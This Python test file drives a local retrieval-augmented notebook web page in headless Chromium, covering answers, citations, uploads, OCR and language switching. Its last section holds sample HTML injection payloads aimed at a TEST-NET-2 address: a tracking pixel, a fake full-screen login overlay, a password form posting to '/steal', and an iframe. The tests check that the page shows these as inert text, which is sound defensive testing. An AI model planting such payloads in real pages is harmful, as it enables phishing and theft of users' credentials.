"""The notebook page in a real browser (Debian's Chromium via Playwright): ask, open citations, scope, upload."""

from __future__ import annotations

import os
import re
import shutil
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

CHROMIUM = Path("/usr/bin/chromium")
REPO = Path(__file__).resolve().parents[2]
SCREENSHOT = REPO / "docs" / "screenshot.png"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
]
TIMEOUT_MS = 90_000  # a first answer on a busy 2-core machine
QUESTION = "TPU能否取代GPU?"
SCOPED = "seeds/004_f9c305b453ef41f2.txt"

pytestmark = [
    pytest.mark.browser,  # the page in a real Chromium: tests/README.md's browser tier
    pytest.mark.skipif(not CHROMIUM.exists(), reason="no /usr/bin/chromium: run `make browser` (apt)"),
]


@pytest.fixture(scope="module")
def notebook(seeds_notebook, seeds_home, tmp_path_factory, notebook_at):
    """A copy of the indexed seeds notebook in its own home: uploads and removals here leave the shared one alone."""
    home = tmp_path_factory.mktemp("browser-home")
    shutil.copytree(seeds_home / "seeds", home / "seeds")
    shutil.copytree(seeds_notebook.path, home / ".rag")
    nb = notebook_at(home, seeds=home / "seeds")
    assert nb.count() == seeds_notebook.count()
    return nb


def serve_page(notebook, port: int) -> Iterator[str]:
    """The notebook page served the way `rag serve` serves it (behind ui.guard), on loopback; its URL."""
    from ui.app import build_app, start

    server = start(build_app(notebook), "127.0.0.1", port)
    yield f"http://127.0.0.1:{port}/"
    server.close()


@pytest.fixture(scope="module")
def url(notebook, free_port) -> Iterator[str]:
    yield from serve_page(notebook, free_port())


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield chromium
        chromium.close()


def open_page(browser, url: str, locale: str = "zh-TW"):
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale=locale)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.requests = []  # every URL the page asked for: all must stay on loopback
    page.on("request", lambda request: page.requests.append(request.url))
    page.goto(url)
    page.wait_for_selector("#question textarea:not([disabled])")
    return page


@pytest.fixture
def page(browser, url):
    page = open_page(browser, url)
    page.wait_for_function("() => (document.querySelector('#title')?.innerText ?? '').includes('筆記本')")
    yield page
    offsite = [u for u in page.requests if not u.startswith(("http://127.0.0.1", "data:", "blob:"))]
    page.context.close()
    assert not offsite, f"the page reached outside loopback: {offsite}"


def ask(page, question: str) -> str:
    """Type a question, send it, wait for the finished answer; its text."""
    answers = page.locator("#chatbot [data-testid='bot']").count()
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")
    page.wait_for_function(
        """([n]) => document.querySelectorAll('#chatbot [data-testid="bot"]').length > n
             && (document.querySelector('#passages')?.innerText ?? '').trim().length > 0""",
        arg=[answers],
    )
    return page.locator("#chatbot [data-testid='bot']").last.inner_text()


def upload(page, *files: Path) -> str:
    """Send files through the upload box; the status text once it reports (every report line opens with ✓ or ✗)."""
    page.locator("#status").evaluate("e => e.dataset.before = e.innerText")
    page.set_input_files("#upload input[type=file]", [str(f) for f in files])
    page.wait_for_function(
        """() => { const s = document.querySelector('#status');
                   return s && /[✓✗]/.test(s.innerText) && s.innerText !== s.dataset.before; }"""
    )
    return page.inner_text("#status")


def status_after(page, act: Callable[[], object], pattern: str = r"\S") -> str:
    """Do `act` (a click, an upload), then the status line once it says something new matching `pattern` and Gradio's
    progress overlay on it is gone; its text (a failure shows what it said instead of timing out)."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    page.locator("#status").evaluate("e => e.dataset.before = e.innerText")
    act()
    try:
        return page.wait_for_function(
            """(pattern) => { const s = document.querySelector('#status');
                              const busy = s?.querySelector('[data-testid="status-tracker"]')?.innerText.trim();
                              return s && !busy && s.innerText !== s.dataset.before
                                     && new RegExp(pattern).test(s.innerText) && s.innerText; }""",
            arg=pattern,
        ).json_value()
    except PlaywrightTimeout as err:
        raise AssertionError(f"the status line never matched {pattern!r}: {page.inner_text('#status')!r}") from err


def remove_picked(page, option) -> str:
    """Pick a document in the remove picker (`option`: its label, a string or a pattern), press remove; the status
    line once it changed."""
    # The option list floats below the picker: with the picker low in the window (a long chat above it) the list
    # opens outside the viewport, where no click reaches it. The picker goes to the middle of the window first.
    page.locator("#remove-pick input").evaluate("e => e.scrollIntoView({block: 'center'})")
    page.click("#remove-pick input")
    page.get_by_role("option", name=option).first.click()
    return status_after(page, lambda: page.click("#remove"))


def mark_in_view(page) -> bool:
    """Whether the first highlighted passage lies inside the visible part of the document box."""
    return page.evaluate(
        """() => { const m = document.querySelector('#source-panel mark'); const box = m.closest('.doc-text');
                   const a = m.getBoundingClientRect(), b = box.getBoundingClientRect();
                   return a.top >= b.top - 1 && a.top < b.bottom && a.bottom > b.top; }"""
    )


def test_answer_streams_and_citation_opens_passage_in_its_document(page, notebook):
    expected = notebook.ask(QUESTION)
    assert not expected.refused
    reply = ask(page, QUESTION)
    assert "[1]" in reply and "TPU" in reply
    assert page.locator("#passages .passage").count() >= 1

    page.locator("#chatbot a.cite", has_text="[1]").first.click()
    mark = page.locator("#source-panel mark").first
    mark.wait_for(state="visible")
    quotes = [c.quote for c in expected.citations if c.n == 1]
    assert mark.inner_text().strip() in [q.strip() for q in quotes]
    first = next(c for c in expected.citations if c.n == 1)
    panel = page.inner_text("#source-panel")
    assert first.title in panel and first.source in panel
    page.wait_for_function("() => document.querySelector('#source-panel .doc-text').scrollTop > 0")
    assert mark_in_view(page)

    if os.environ.get("RAG_UPDATE_SCREENSHOT"):  # the README's picture; a plain test run leaves the tree clean
        page.screenshot(path=str(SCREENSHOT))


def test_follow_up_keeps_the_conversation_and_its_citations(page, notebook):
    example = notebook.overview("zh-Hant").questions[0]  # the page's examples come from the sources' guides
    page.locator("#chatbot button", has_text=example).first.click()  # an example question starts the chat
    page.wait_for_function("() => document.querySelector('#passages .passage')")
    assert example in page.locator("#chatbot [data-testid='user']").first.inner_text()
    follow_up = "亞馬遜機房裡最多的CPU是哪種?"
    expected = notebook.ask(follow_up)
    reply = ask(page, follow_up)
    assert page.locator("#chatbot [data-testid='user']").count() == 2
    assert page.locator("#chatbot [data-testid='bot']").count() == 2
    assert "[1]" in reply
    page.locator("#chatbot [data-testid='bot']").last.locator("a.cite", has_text="[1]").first.click()
    page.locator("#source-panel mark").first.wait_for(state="visible")
    quotes = [c.quote.strip() for c in expected.citations if c.n == 1]
    assert page.locator("#source-panel mark").first.inner_text().strip() in quotes


def test_a_follow_up_without_its_subject_is_searched_with_the_last_questions_subject(page):
    ask(page, QUESTION)
    ask(page, "那它的缺點是什麼?")
    page.wait_for_function("() => (document.querySelector('#passages')?.innerText ?? '').includes('TPU的缺點是什麼?')")
    assert "依對話改寫後查詢" in page.inner_text("#passages")


def test_a_suggested_follow_up_under_an_answer_is_asked_when_clicked(page, notebook):
    suggestion = notebook.ask(QUESTION).suggestions[0]
    ask(page, QUESTION)
    page.locator("#chatbot button", has_text=suggestion).first.click()
    page.wait_for_function(
        """([q]) => document.querySelectorAll('#chatbot [data-testid="bot"]').length == 2
             && [...document.querySelectorAll('#chatbot [data-testid="user"]')].some(u => u.innerText.includes(q))""",
        arg=[suggestion],
    )
    page.wait_for_function(
        "() => document.querySelectorAll('#chatbot [data-testid=\"bot\"]')[1].innerText.trim().length > 0"
    )


def test_a_question_in_the_notebook_guide_is_asked_when_clicked(page, notebook):
    overview = notebook.overview("zh-Hant")
    page.locator("#guide").get_by_text("筆記本導覽").first.click()  # the accordion opens
    # The panel is drawn by several events of the page's load (its language, its notebook): wait for the last.
    page.wait_for_function(
        "(title) => (document.querySelector('#guide-panel')?.innerText ?? '').includes(title)",
        arg=overview.guides[0].title,
    )
    assert "關鍵詞" in page.inner_text("#guide-panel")
    question = overview.guides[0].questions[0]
    page.locator("#guide-questions button", has_text=question).first.click()
    page.wait_for_function(
        """([q]) => [...document.querySelectorAll('#chatbot [data-testid="user"]')].some(u => u.innerText.includes(q))
             && document.querySelectorAll('#chatbot [data-testid="bot"]').length == 1""",
        arg=[question],
    )


def test_scope_to_one_document_cites_only_it(page):
    page.check(f"#scope input[name='{SCOPED}']")
    ask(page, QUESTION)
    metas = page.locator("#passages .passage .meta").all_inner_texts()
    assert metas and all(m.startswith(SCOPED) for m in metas)
    page.locator("#chatbot a.cite").first.click()
    page.locator("#source-panel mark").first.wait_for(state="visible")
    assert SCOPED in page.inner_text("#source-panel")


def test_uploaded_note_is_indexed_answered_and_removed(page, notebook, tmp_path):
    note = tmp_path / "藍鯨咖啡館.txt"
    note.write_text(
        "藍鯨咖啡館\n\n藍鯨咖啡館的招牌飲料是桂花烏龍拿鐵，每杯售價一百二十元。\n老闆說這款拿鐵每天只賣五十杯。\n",
        encoding="utf-8",
    )
    status = upload(page, note)
    assert "✓ 新增 1" in status and "✗" not in status  # the report; the document joins the list below
    saved = notebook.path.parent / "uploads" / "藍鯨咖啡館.txt"
    assert saved.is_file()
    page.locator("#scope input[name='uploads/藍鯨咖啡館.txt']").wait_for()
    page.locator("#guide").get_by_text("筆記本導覽").first.click()  # its guide joins the notebook guide
    page.wait_for_function("() => (document.querySelector('#guide-panel')?.textContent ?? '').includes('桂花烏龍拿鐵')")

    reply = ask(page, "藍鯨咖啡館的招牌飲料是什麼?")
    assert "桂花烏龍拿鐵" in reply

    status = remove_picked(page, "藍鯨咖啡館 · 藍鯨咖啡館.txt")
    assert "已移除" in status, status
    page.locator("#scope input[name='uploads/藍鯨咖啡館.txt']").wait_for(state="detached")
    page.wait_for_function(
        "() => document.querySelector('#guide-panel')?.textContent.includes('桂花烏龍拿鐵') === false"
    )
    assert not saved.exists()
    assert all(s["source"] != "uploads/藍鯨咖啡館.txt" for s in notebook.sources())


def test_an_uploaded_scan_shows_its_pages_being_read_then_is_answered_from(page, tmp_path):
    from tests.ingest.readers.builders import image_bytes, text_image

    tag = uuid.uuid4().hex[:6]  # new pixels: never read from the OCR cache of an earlier run
    lines = [f"Harbour ledger {tag} page {n}: the ferry to Lamma left at {n + 6} o'clock." for n in range(1, 5)]
    pages = [text_image([(30, 40 + 60 * i, line) for i in range(6)], (1100, 420), 28) for line in lines]
    scan = tmp_path / f"ledger-{tag}.tif"
    scan.write_bytes(image_bytes(pages[0], "TIFF", save_all=True, append_images=pages[1:]))
    # Every text the status line shows, however briefly (the 1 s timer writes each page's progress there).
    page.evaluate(
        """() => { window.__shown = []; const s = document.querySelector('#status');
                   new MutationObserver(() => window.__shown.push(s.innerText))
                       .observe(s, {subtree: true, childList: true, characterData: true}); }"""
    )
    status = upload(page, scan)
    assert "✓ 新增 1" in status and "✗" not in status, status
    shown = page.evaluate("() => window.__shown")
    assert any(f"OCR 辨識 ledger-{tag}.tif" in text and "/4 頁" in text for text in shown), shown
    reply = ask(page, f"When did the ferry to Lamma leave on page 3 of the harbour ledger {tag}?")
    assert "9" in reply and "[1]" in reply, reply


def test_an_uploaded_pdf_is_cited_at_its_page_and_the_panel_shows_that_page(page, notebook, tmp_path):
    from tests.ingest.readers.builders import pdf_bytes

    report = tmp_path / "電力報告.pdf"
    report.write_bytes(
        pdf_bytes(
            [
                ["台灣電力概況", "", "台灣的電力主要來自燃氣與燃煤發電。"],
                ["水力發電", "", "日月潭水庫的有效容量約為一億立方公尺，是重要的抽蓄水力電廠所在地。"],
            ],
            title="台灣電力報告",
        )
    )
    status = upload(page, report)
    assert "✓ 新增 1" in status and "✗" not in status
    page.locator("#scope input[name='uploads/電力報告.pdf']").wait_for()
    reply = ask(page, "日月潭水庫的有效容量是多少?")
    assert "一億立方公尺" in reply
    assert "第 2 頁" in page.inner_text("#passages")
    page.locator("#chatbot a.cite", has_text="[1]").first.click()
    page.locator("#source-panel mark").first.wait_for(state="visible")
    panel = page.inner_text("#source-panel")
    assert "台灣電力報告" in panel and "第 2 頁" in panel and "一億立方公尺" in page.inner_text("#source-panel mark")
    assert "燃煤" not in panel  # page 1 is not shown: the cited page only


def test_bad_uploads_show_errors_in_the_page(page, notebook, tmp_path):
    exe = tmp_path / "setup.exe"
    exe.write_bytes(b"MZ\x90\x00binary")
    binary = tmp_path / "garbled.txt"
    binary.write_bytes(bytes(range(256)) * 4)
    status = upload(page, exe, binary)
    assert "setup.exe" in status and "只接受 .txt、.md、.pdf" in status
    assert "garbled.txt" in status and "無法讀取為文字" in status
    assert "Traceback" not in page.inner_text("body")
    uploads = notebook.path.parent / "uploads"
    assert not (uploads / "setup.exe").exists() and not (uploads / "garbled.txt").exists()


def test_search_only_lists_passages_with_scores(page):
    page.click("#settings")  # open the settings accordion
    page.check("#scores input")
    page.click("#mode label:has-text('只搜尋')")
    reply = ask(page, QUESTION)
    assert "5" in reply
    hits = page.locator("#passages .passage.hit")
    assert hits.count() == 5
    assert page.locator("#passages .score").count() == 5
    hits.first.locator("a.cite").click()
    page.locator("#source-panel mark").first.wait_for(state="visible")


def test_labels_follow_the_browser_language_and_the_switch(browser, url):
    page = open_page(browser, url, locale="en-US")
    try:
        page.wait_for_function("() => (document.querySelector('#title')?.innerText ?? '').includes('Notebook')")
        assert "Click a citation" in page.inner_text("#source-panel")
        page.click("#lang label:has-text('简体中文')")
        page.wait_for_function("() => (document.querySelector('#title')?.innerText ?? '').includes('笔记本')")
        assert "原文会在这里打开" in page.inner_text("#source-panel")
        assert page.get_by_text("只问这些文档").count() == 1
    finally:
        page.context.close()


def test_reindex_reports_what_changed(page):
    page.click("#reindex")
    # Re-index covers seeds/ and uploads/: nothing changed since they were indexed.
    page.wait_for_function("() => /未變更 \\d/.test(document.querySelector('#status')?.innerText ?? '')", timeout=90000)
    assert "新增 0、更新 0、移除 0" in page.inner_text("#status")


# ---- hostile documents ----------------------------------------------------------------------------------------
OUTSIDE = "198.51.100.7"  # TEST-NET-2: nothing answers there, and the page must never ask
HOSTILE = f"""# Harbor Lighthouse Log

The Harbor Lighthouse keeper lights the lamp at six every evening <img src="http://{OUTSIDE}/pixel.png"> and writes \
the weather in the log.

The lighthouse tower was painted red in 1921 <a href="http://{OUTSIDE}/login" style="position:fixed;top:0;left:0;\
width:100%;height:100%;background:#fff;z-index:9999">Session expired, click to log in again</a> by the harbor crew.

Visitors sign the guest book at the door <form action="http://{OUTSIDE}/steal" method="post"><input type="password" \
name="pw" placeholder="Password"><button>Sign</button></form> before climbing the stairs.

The lens of the lamp came from Paris <iframe src="http://{OUTSIDE}/frame"></iframe> in a wooden crate.

The keeper's cat is called Biscuit ![pixel](http://{OUTSIDE}/md.png) and sleeps beside the lamp.
"""
# Each answer quotes one payload sentence (the extractive answerer quotes the document's own sentences).
HOSTILE_QUESTIONS = {
    "What does the Harbor Lighthouse keeper do every evening?": f'<img src="http://{OUTSIDE}/pixel.png">',
    "When was the lighthouse tower painted red?": "Session expired, click to log in again</a>",
    "Where did the lens of the lamp come from?": "<iframe src=",
    "What is the keeper's cat called?": f"![pixel](http://{OUTSIDE}/md.png)",
    "Where do visitors sign the guest book?": '<input type="password"',  # last: the copy check below
}
# A document whose title is a payload: titles show in the document list, the remove picker and the status line.
NOTICE = f"""# Notice <img src="http://{OUTSIDE}/title.png"> <a href="http://{OUTSIDE}/x" style="position:fixed;inset:0">Log in</a>

The harbor office opens at nine on weekdays & closes at noon on Saturdays.
"""
# Elements a document must never bring into the page, wherever its text is shown.
LIVE_MARKUP = """() => {
  // where document text is shown: chat messages, passages, the source panel (nothing of Gradio's own inside)
  const text = ['#chatbot .message-content', '#passages .passage', '#source-panel .source-doc'];
  // and Gradio blocks showing titles and file names (their own inputs and styles aside)
  const lists = ['#status', '#scope', '#remove-pick'];
  const found = [];
  const look = (areas, tags) => {
    for (const area of areas) {
      for (const el of document.querySelectorAll(tags.map(tag => `${area} ${tag}`).join(', '))) {
        found.push(el.outerHTML.slice(0, 120));
      }
      for (const a of document.querySelectorAll(`${area} a`)) {
        if (!(a.getAttribute('href') || '').startsWith('#')) found.push(a.outerHTML.slice(0, 120));
      }
    }
  };
  look(text, ['img', 'form', 'input', 'iframe', 'button', 'svg', '[style]']);
  look(lists, ['img', 'form', 'iframe', '[style*="fixed"]']);
  for (const el of document.querySelectorAll('[src*="OUTSIDE"], [href*="OUTSIDE"], [action*="OUTSIDE"]')) {
    found.push(el.outerHTML.slice(0, 120));
  }
  return [...new Set(found)];
}""".replace("OUTSIDE", OUTSIDE)


@pytest.fixture(scope="module")
def hostile_url(notebook_at, tmp_path_factory, free_port) -> Iterator[str]:
    """A notebook holding one document full of HTML payloads, served on loopback."""
    home = tmp_path_factory.mktemp("hostile-home")
    (home / "seeds").mkdir()
    for name, text in {"lighthouse.md": HOSTILE, "notice.md": NOTICE}.items():
        (home / "seeds" / name).write_text(text, encoding="utf-8")
    nb = notebook_at(home, seeds=home / "seeds")
    assert nb.index(home / "seeds", progress=False).added == 2
    yield from serve_page(nb, free_port())


def test_document_html_is_shown_as_text_and_nothing_leaves_loopback(browser, hostile_url):
    page = open_page(browser, hostile_url, locale="en-US")
    try:
        for question, payload in HOSTILE_QUESTIONS.items():
            reply = ask(page, question)
            assert payload in reply and "[1]" in reply, reply  # the markup is there, as characters
            assert payload in page.inner_text("#passages")
            page.locator("#chatbot [data-testid='bot']").last.locator("a.cite", has_text="[1]").first.click()
            page.wait_for_function(
                "(p) => document.querySelector('#source-panel mark')?.innerText.includes(p)", arg=payload
            )
        # The copy button copies the answer as written, not as the escaped text the page received.
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        page.locator("#chatbot button[aria-label='Copy message']").last.click()
        copied = page.evaluate("() => navigator.clipboard.readText()")
        assert '<input type="password"' in copied and "&lt;" not in copied and "[1]" in copied
        # The user's own question quoting a payload is text too, and so are search-only results.
        question = f'When was the tower painted <img src="http://{OUTSIDE}/question.png">?'
        ask(page, question)
        assert question in page.locator("#chatbot [data-testid='user']").last.inner_text()
        page.click("#mode label:has-text('Search only')")
        ask(page, "lighthouse lamp guest book")
        assert page.locator("#passages .passage.hit").count() >= 1
        assert f"http://{OUTSIDE}/steal" in page.inner_text("#passages")
        page.locator("#passages .passage.hit a.cite").first.click()
        page.locator("#source-panel mark").first.wait_for(state="visible")
        # Messages are text that keeps its line breaks.
        assert page.evaluate("() => getComputedStyle(document.querySelector('#chatbot .md')).whiteSpace") == "pre-wrap"

        # A title made of markup is text in the document list, the remove picker and the status line.
        assert page.locator("#scope label", has_text="notice.md").count() == 1
        assert page.evaluate(LIVE_MARKUP) == []
        status = remove_picked(page, re.compile("notice.md"))
        assert f'Notice <img src="http://{OUTSIDE}/title.png">' in status, status
        assert page.evaluate(LIVE_MARKUP) == []
        assert (
            page.locator("text=Session expired, click to log in again").first.evaluate(
                "e => getComputedStyle(e).position"
            )
            != "fixed"
        )
    finally:
        offsite = [u for u in page.requests if not u.startswith(("http://127.0.0.1", "data:", "blob:"))]
        page.context.close()
    assert not offsite, f"the page reached outside loopback: {offsite}"
